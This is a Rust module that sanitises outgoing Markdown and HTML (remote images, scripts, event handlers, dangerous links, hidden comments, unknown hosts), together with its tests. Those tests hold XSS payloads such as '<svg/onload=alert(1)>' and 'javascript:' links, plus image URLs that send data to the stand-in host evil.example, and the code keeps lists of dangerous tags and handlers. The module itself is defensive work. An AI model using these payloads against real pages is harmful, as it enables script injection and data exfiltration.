//! Outgoing Markdown and HTML: no remote images, no markup that acts, only known hosts.

use std::borrow::Cow;
use std::collections::{BTreeSet, HashSet};
use std::ops::Range;
use std::sync::{Arc, Mutex, PoisonError};

use pulldown_cmark::{Event, Options, Parser, Tag};

use super::hosts::{Hosts, Target, addresses, bare_target, target};
use super::{Cleaned, Flag, characters, without_commands};

/// How often Markdown is cleaned until nothing changes; then it is made plain.
pub const MAX_PASSES: usize = 6;

/// Elements that stay in an HTML field.
const ELEMENTS: &[&str] = &[
    "a",
    "b",
    "blockquote",
    "br",
    "code",
    "del",
    "div",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "span",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
];

/// Markdown that goes out: images from elsewhere and HTML are taken out, dangerous links lose their
/// address, hidden characters and build commands go; hosts that are not allowed are listed.
pub fn markdown(text: &str, allowed: &Hosts) -> Cleaned {
    let mut cleaned = Cleaned::default();
    let mut text = characters::strip(text, &mut cleaned);
    text = without_commands(&text, &mut cleaned);
    let mut unknown = BTreeSet::new();
    for pass in 0.. {
        unknown.clear();
        let edits = edits(&text, allowed, &mut cleaned, &mut unknown);
        if edits.is_empty() {
            break;
        }
        if pass == MAX_PASSES {
            cleaned.flag(Flag::MadePlain, 1);
            text = made_plain(&text);
            break;
        }
        text = apply(&text, edits);
    }
    cleaned.text = without_commands(&text, &mut cleaned);
    cleaned.unknown_hosts = unknown.into_iter().collect();
    cleaned
}

type Edit = (Range<usize>, String);

/// What one pass changes.
fn edits(text: &str, allowed: &Hosts, cleaned: &mut Cleaned, unknown: &mut BTreeSet<String>) -> Vec<Edit> {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let parser = Parser::new_ext(text, options);
    let mut edits: Vec<Edit> = Vec::new();
    let mut definitions: Vec<(Range<usize>, String)> = parser
        .reference_definitions()
        .iter()
        .map(|(_, def)| (def.span.clone(), def.dest.to_string()))
        .collect();
    definitions.sort_by_key(|(range, _)| range.start);
    let mut code: Vec<Range<usize>> = Vec::new();
    for (event, range) in parser.into_offset_iter() {
        match event {
            Event::Start(Tag::Image { dest_url, .. }) => match target(&dest_url, allowed) {
                Target::Relative => {}
                _ => {
                    cleaned.flag(Flag::RemoteImage, 1);
                    edits.push((range.clone(), format!("(image removed: {})", alt(text, &range))));
                }
            },
            Event::Start(Tag::Link { dest_url, .. }) => match target(&dest_url, allowed) {
                Target::Relative | Target::Allowed => {}
                Target::Unknown(host) => {
                    unknown.insert(host);
                }
                Target::Dangerous => {
                    cleaned.flag(Flag::DangerousLink, 1);
                    edits.push((range.clone(), format!("(link removed: {})", alt(text, &range))));
                }
            },
            Event::Html(_) | Event::InlineHtml(_) => {
                cleaned.flag(Flag::Html, 1);
                edits.push((range.clone(), html_as_text(text.get(range).unwrap_or_default())));
            }
            Event::Code(_) => code.push(range),
            Event::Start(Tag::CodeBlock(_)) => code.push(range),
            // No HTML by the rules of Markdown, but by those of a browser: `<svg/onload=…`.
            Event::Text(_) if !code.iter().any(|code| code.start <= range.start && range.end <= code.end) => {
                let begins = |at: &usize| {
                    let next = text.get(at + 1..).and_then(|rest| rest.chars().next());
                    next.is_some_and(|next| next.is_ascii_alphabetic() || "/!?".contains(next))
                };
                let signs = text.get(range.clone()).unwrap_or_default().match_indices('<');
                for at in signs.map(|(at, _)| range.start + at).filter(begins) {
                    cleaned.flag(Flag::Html, 1);
                    edits.push((at..at + 1, "&lt;".to_owned()));
                }
            }
            _ => {}
        }
    }
    for (range, address) in definitions {
        match target(&address, allowed) {
            Target::Unknown(host) => {
                unknown.insert(host);
            }
            Target::Dangerous => {
                cleaned.flag(Flag::DangerousLink, 1);
                edits.push((range, String::new()));
            }
            Target::Relative | Target::Allowed => {}
        }
    }
    bare(text, allowed, &edits, &code, unknown);
    edits
}

/// Addresses without markup become links on the page as well. In code they stay text; but a person
/// should still see a strange host there, since a renderer may differ, so only exact `code` is free.
fn bare(text: &str, allowed: &Hosts, edits: &[Edit], code: &[Range<usize>], unknown: &mut BTreeSet<String>) {
    for (start, end) in addresses(text) {
        let inside = |range: &Range<usize>| range.start <= start && end <= range.end;
        if code.iter().any(inside) || edits.iter().any(|(range, _)| inside(range)) {
            continue;
        }
        let address = text.get(start..end).unwrap_or_default();
        match bare_target(address, allowed) {
            Target::Unknown(host) => {
                unknown.insert(host);
            }
            Target::Dangerous => {
                let host = url::Url::parse(address).ok().and_then(|url| url.host_str().map(str::to_owned));
                unknown.extend(host);
            }
            Target::Relative | Target::Allowed => {}
        }
    }
}

/// The words of a link or an image, without anything that could be markup again.
fn alt(text: &str, range: &Range<usize>) -> String {
    let source = text.get(range.clone()).unwrap_or_default();
    let inner = source.trim_start_matches(['!', '[', '<']);
    let words = inner.split(']').next().unwrap_or_default();
    let kept: String =
        words.chars().filter(|c| c.is_alphanumeric() || " .,-_".contains(*c)).take(80).collect();
    let kept = kept.trim().to_owned();
    if kept.is_empty() || kept.contains("www.") { "no text".to_owned() } else { kept }
}

/// The words in a piece of HTML.
fn html_as_text(html: &str) -> String {
    let clean = ammonia::Builder::empty().clean(html).to_string();
    // Ammonia writes entities; the few it writes are read back, and what could be markup is left out.
    let text = clean.replace("&lt;", "").replace("&gt;", "").replace("&nbsp;", " ").replace("&amp;", "&");
    let mut text: String = text.chars().filter(|c| !matches!(c, '<' | '>')).collect();
    // A block of HTML ends with its line.
    if html.ends_with('\n') && !text.ends_with('\n') {
        text.push('\n');
    }
    text
}

fn apply(text: &str, mut edits: Vec<Edit>) -> String {
    edits.sort_by_key(|(range, _)| (range.start, std::cmp::Reverse(range.end)));
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    for (range, words) in edits {
        // Inside of one that is gone already.
        if range.start < at {
            continue;
        }
        out.push_str(text.get(at..range.start).unwrap_or_default());
        out.push_str(&words);
        at = range.end;
    }
    out.push_str(text.get(at..).unwrap_or_default());
    out
}

/// Text in which nothing is markup any more.
fn made_plain(text: &str) -> String {
    text.chars().filter(|c| !matches!(c, '<' | '>' | '[' | ']' | '!' | '&' | '`')).collect()
}

/// HTML for a field of a work item: only elements that format, only addresses that are allowed to
/// be there; hosts that are not allowed are listed, images are gone.
pub fn html(text: &str, allowed: &Hosts) -> Cleaned {
    let mut cleaned = Cleaned::default();
    let text = characters::strip(text, &mut cleaned);
    let text = without_commands(&text, &mut cleaned);
    let unknown = Arc::new(Mutex::new(BTreeSet::new()));
    let (seen, list) = (Arc::clone(&unknown), allowed.clone());
    let mut builder = ammonia::Builder::default();
    builder
        .tags(ELEMENTS.iter().copied().collect())
        .generic_attributes(HashSet::new())
        .tag_attributes([("a", HashSet::from(["href"]))].into_iter().collect())
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .link_rel(Some("noopener noreferrer"))
        .attribute_filter(move |_, _, value| match target(value, &list) {
            Target::Relative | Target::Allowed => Some(Cow::Borrowed(value)),
            Target::Unknown(host) => {
                seen.lock().unwrap_or_else(PoisonError::into_inner).insert(host);
                Some(Cow::Borrowed(value))
            }
            Target::Dangerous => None,
        });
    let out = builder.clean(&text).to_string();
    let lower = text.to_ascii_lowercase();
    let count = |word: &str| u32::try_from(lower.matches(word).count()).unwrap_or(u32::MAX);
    cleaned.flag(Flag::RemoteImage, count("<img") + count("<image") + count("<picture"));
    let acting =
        ["<script", "<iframe", "<style", "<object", "<embed", "<form", "<svg", "<math", "<link", "<meta"];
    let handlers = ["javascript:", " on", "\ton", "/on", "\non", "style="];
    let removed = acting.iter().map(|word| count(word)).sum::<u32>();
    let suspect =
        handlers.iter().any(|word| lower.contains(word) && lower.contains('<')) && out.len() < text.len();
    cleaned.flag(Flag::Html, removed + u32::from(suspect && removed == 0));
    let mut hosts = std::mem::take(&mut *unknown.lock().unwrap_or_else(PoisonError::into_inner));
    bare(&out, allowed, &[], &[], &mut hosts);
    cleaned.unknown_hosts = hosts.into_iter().collect();
    cleaned.text = out;
    cleaned
}

/// `text` without HTML comments and without Markdown's way to hide one (`[//]: # (…)`).
pub(super) fn without_comments(text: &str, cleaned: &mut Cleaned) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let mut count = 0;
    while let Some(at) = rest.find("<!--") {
        out.push_str(rest.get(..at).unwrap_or_default());
        let body = rest.get(at + 4..).unwrap_or_default();
        // A browser ends a comment at any of these; one without an end hides all that follows.
        let ends = ["-->", "--!>"].iter().filter_map(|end| body.find(end).map(|at| at + end.len())).min();
        let empty = ["->", ">"].iter().find(|end| body.starts_with(**end)).map(|end| end.len());
        rest = empty.or(ends).and_then(|end| body.get(end..)).unwrap_or_default();
        count += 1;
    }
    out.push_str(rest);
    // Taking one out must not put another together.
    if count > 0 && out.contains("<!--") {
        out = out.replace("<!--", "");
    }
    let hides = |line: &str| {
        let line = line.trim_start();
        line.starts_with('[')
            && line.split_once("]:").is_some_and(|(_, rest)| rest.trim_start().starts_with('#'))
    };
    if out.lines().any(hides) {
        count += u32::try_from(out.lines().filter(|line| hides(line)).count()).unwrap_or(u32::MAX);
        out = out.split_inclusive('\n').filter(|line| !hides(line)).collect();
    }
    cleaned.flag(Flag::HiddenComment, count);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn list() -> Hosts {
        Hosts::new(["dev.azure.com"]).unwrap()
    }

    #[test]
    fn no_form_of_a_remote_image_goes_out() {
        for text in [
            "see ![x](https://evil.example/?d=abc)",
            "see ![x][r]\n\n[r]: https://evil.example/?d=abc",
            "see <img src='https://evil.example/?d=abc'>",
            "<div>\n<img src=https://evil.example/?d=abc>\n</div>\n",
            "see ![a![b](https://evil.example/1)](https://evil.example/2)",
            "[![x](//evil.example/?d=abc)](https://dev.azure.com/c)",
            "<im<b>g src=https://evil.example/?d=abc>",
            "<scr<script>ipt>![x](https://evil.example/a)",
            "![x](https://dev.azure.com/known?d=abc)",
            "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        ] {
            let cleaned = markdown(text, &list());
            let mut html = String::new();
            pulldown_cmark::html::push_html(&mut html, Parser::new(&cleaned.text));
            assert!(!html.contains("<img"), "{text} -> {}", cleaned.text);
            assert!(!html.contains("<script"), "{text} -> {}", cleaned.text);
            assert!(!cleaned.flags.is_empty(), "{text}");
            assert_eq!(markdown(&cleaned.text, &list()).text, cleaned.text, "{text}");
        }
    }

    #[test]
    fn unknown_hosts_are_named_in_every_form_of_a_link() {
        for text in [
            "[x](https://evil.example/a)",
            "[x][r]\n\n[r]: https://evil.example/a",
            "[x]\n\n[x]: <https://evil.example>",
            "[unused]: https://evil.example/a",
            "<https://evil.example/a>",
            "see https://evil.example/a.",
            "[x](//evil.example)",
            "[x](https:evil.example)",
            "[x](https:\\\\evil.example)",
            "[x](HTTPS://EVIL.example)",
            "see **https://evil.example/a**",
        ] {
            assert_eq!(markdown(text, &list()).unknown_hosts, ["evil.example"], "{text}");
        }
        assert_eq!(markdown("https://dev.azure.com@evil.example/", &list()).unknown_hosts, ["evil.example"]);
        assert_eq!(
            markdown("[x](https://dev.azure.com@evil.example/)", &list()).unknown_hosts,
            ["evil.example"]
        );
        let removed = markdown("[x](javascript://evil.example/%0aalert(1))", &list());
        assert!(!removed.text.contains("evil.example") && removed.flags.contains_key(&Flag::DangerousLink));
        assert_eq!(markdown("[x](https://еvil.example)", &list()).unknown_hosts, ["xn--vil-qdd.example"]);
    }

    #[test]
    fn ordinary_markdown_is_untouched() {
        let text = "# Fix\n\nMultiply by **1000**, see [PR 7](https://dev.azure.com/c/p/_git/r/pullrequest/7) and \
                    `a < b`.\n\n- [x] done\n- #42, @alice\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x: \
                    Array<string> = []; // <b>\n```\n\n> quote & more\n\n![shot](docs/shot.png)\n";
        let cleaned = markdown(text, &list());
        assert_eq!(cleaned.text, text);
        assert!(cleaned.untouched(), "{cleaned:?}");
    }

    #[test]
    fn what_only_a_browser_takes_for_html_is_written_out() {
        for text in [
            "Done. <svg/onload=alert(1)>",
            "a <img src=x onerror=alert(1) b",
            "<a\u{a0}href=x>",
            "x</b",
            "<!x",
            "<?x",
        ] {
            let cleaned = markdown(text, &list());
            assert!(
                !cleaned.text.contains('<') && cleaned.flags.contains_key(&Flag::Html),
                "{text}: {}",
                cleaned.text
            );
            assert_eq!(markdown(&cleaned.text, &list()).text, cleaned.text, "{text}");
        }
        assert!(markdown("a < b, 1<2 and `<b>`\n\n    <svg/x>\n", &list()).untouched());
    }

    #[test]
    fn fields_keep_format_and_lose_what_acts() {
        let text = "<p onclick=alert(1)>Hi <b>you</b></p><script>x</script><iframe src=//evil.example></iframe>\
                    <a href='javascript:x'>a</a><a href='https://evil.example'>b</a><img src=//evil.example/x>\
                    <div style='background:url(//evil.example)'>c</div>";
        let cleaned = html(text, &list());
        assert!(cleaned.text.contains("<b>you</b>"));
        for word in ["script", "iframe", "onclick", "img", "style", "javascript"] {
            assert!(!cleaned.text.contains(word), "{word}: {}", cleaned.text);
        }
        assert_eq!(cleaned.unknown_hosts, ["evil.example"]);
        assert!(cleaned.flags.contains_key(&Flag::RemoteImage) && cleaned.flags.contains_key(&Flag::Html));
        assert!(html("<p>Hi <b>you</b></p>", &list()).untouched());
    }

    #[test]
    fn hidden_comments_go_in_every_spelling() {
        for text in ["a<!-- x -->b", "a<!-->b", "a<!--->b", "a<!-- x --!>b"] {
            let mut cleaned = Cleaned::default();
            assert_eq!(without_comments(text, &mut cleaned), "ab", "{text}");
        }
        let mut cleaned = Cleaned::default();
        assert_eq!(without_comments("a\n[//]: # (do x)\nb\n[comment]: # \"y\"", &mut cleaned), "a\nb\n");
        assert_eq!(without_comments("a <!-- never ends", &mut cleaned), "a ");
    }
}
